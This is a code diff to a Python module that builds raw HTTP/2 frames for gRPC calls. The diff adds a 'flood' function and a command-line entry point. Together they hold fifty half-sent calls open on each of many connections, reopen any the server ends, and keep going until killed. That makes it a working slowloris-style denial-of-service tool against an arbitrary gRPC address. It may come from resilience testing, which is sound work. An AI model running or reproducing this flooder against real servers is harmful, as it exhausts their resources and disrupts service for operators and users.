@@ -5,10 +5,15 @@ gRPC's own clients never send them apart. Nothing here is compressed or indexed:
 
 from __future__ import annotations
 
+import json
 import socket
 import struct
+import sys
 import threading
+import time
 from collections.abc import Sequence
+
+STREAMS = 50
 
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 _HEADERS, _RST, _SETTINGS, _PING = 1, 3, 4, 6
@@ -112,3 +117,17 @@ def _literals(headers: Sequence[tuple[str, str]]) -> bytes:
             assert len(data) < 127
             encoded += bytes([len(data)]) + data
     return encoded
+
+
+def flood(address: str, path: str, metadata: Sequence[tuple[str, str]], partial: bytes, connections: int) -> None:
+    """Keep fifty calls open on each connection, until this process is killed: what the server ends is opened again."""
+    held = [HalfOpenConnection(address, path, metadata, partial) for _ in range(connections)]
+    while True:
+        for connection in held:
+            connection.open_streams(STREAMS)
+        print("open", flush=True)
+        time.sleep(1.0)
+
+
+if __name__ == "__main__":
+    flood(sys.argv[1], sys.argv[2], json.loads(sys.argv[3]), bytes.fromhex(sys.argv[4]), int(sys.argv[5]))
